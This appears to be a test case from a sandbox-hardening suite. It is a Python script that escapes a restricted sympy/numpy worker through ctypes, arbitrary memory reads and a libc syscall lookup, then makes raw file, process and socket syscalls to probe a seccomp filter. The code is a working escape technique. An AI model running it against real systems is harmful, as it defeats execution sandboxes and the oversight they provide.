# technique: native system calls from the production science worker: ctypes (loaded by numpy) from sympy's eval, numpy's __array_interface__ to read any address, libc found from ctypes' memmove address and its ELF dynamic symbols walked for syscall(), then ctypes.CFUNCTYPE on that address: openat of the canary, openat O_CREAT, mkdirat and mknodat of MARKER_PATH, clone(SIGCHLD) (a process), and last socket() and connect() to the TCP listener; only the seccomp filter answers
# expect: any
import numpy as np
import struct
import sympy

c = sympy.parse_expr('__import__("ctypes")')

class Mem:
    pass

def mem(addr, n):
    m = Mem()
    m.__array_interface__ = {"data": (addr, False), "shape": (n,), "typestr": "|u1", "version": 3}
    return np.asarray(m).tobytes()

def q(addr):
    return struct.unpack("<Q", mem(addr, 8))[0]

def libc_symbol(want):
    base = c._memmove_addr & ~0xfff
    while mem(base, 4) != b"\x7fELF":
        base -= 0x1000
    phoff, phnum = q(base + 32), struct.unpack("<H", mem(base + 56, 2))[0]
    dyn = [base + q(base + phoff + 56 * i + 16) for i in range(phnum)
           if struct.unpack("<I", mem(base + phoff + 56 * i, 4))[0] == 2][0]   # PT_DYNAMIC
    tags = {}
    while q(dyn):
        tags[q(dyn)] = q(dyn + 8)
        dyn += 16
    symtab, strtab = tags[6], tags[5]                 # DT_SYMTAB, DT_STRTAB (relocated)
    symtab, strtab = (v if v > base else base + v for v in (symtab, strtab))
    s = symtab
    while s < strtab:
        if q(s + 8) and mem(strtab + struct.unpack("<I", mem(s, 4))[0], len(want) + 1) == want + b"\0":
            return base + q(s + 8)
        s += 24
    raise LookupError(want)

L = c.c_long
syscall = c.CFUNCTYPE(L, L, L, L, L, L, L, L)(libc_symbol(b"syscall"))
errno = c.CFUNCTYPE(c.POINTER(c.c_int))(libc_symbol(b"__errno_location"))

def sys(nr, *a):
    a = list(a) + [0] * (6 - len(a))
    r = syscall(nr, *a)
    return (r, errno()[0]) if r == -1 else (r, 0)

def cstr(s):
    return np.frombuffer(s.encode() + b"\0", dtype="u1").ctypes.data

AT_FDCWD = -100
keep = [cstr("CANARY_PATH"), cstr("MARKER_PATH")]
canary, marker = keep
results = {
    "getpid": sys(39),
    "openat canary": sys(257, AT_FDCWD, canary, 0),
    "openat marker O_CREAT": sys(257, AT_FDCWD, marker, 0o101, 0o644),
    "mkdirat marker": sys(258, AT_FDCWD, marker, 0o755),
    "clone SIGCHLD": sys(56, 17, 0, 0, 0, 0),
}
print(results)
sockaddr = np.frombuffer(struct.pack("<H", 2) + struct.pack(">H", LISTENER_PORT) + bytes([127, 0, 0, 1]) + bytes(8), dtype="u1")
fd = sys(41, 2, 1, 0)          # socket(AF_INET, SOCK_STREAM)
results["socket"] = fd
results["connect"] = sys(42, fd[0], sockaddr.ctypes.data, 16)
results["mknodat marker"] = sys(259, AT_FDCWD, marker, 0o10644, 0)
results
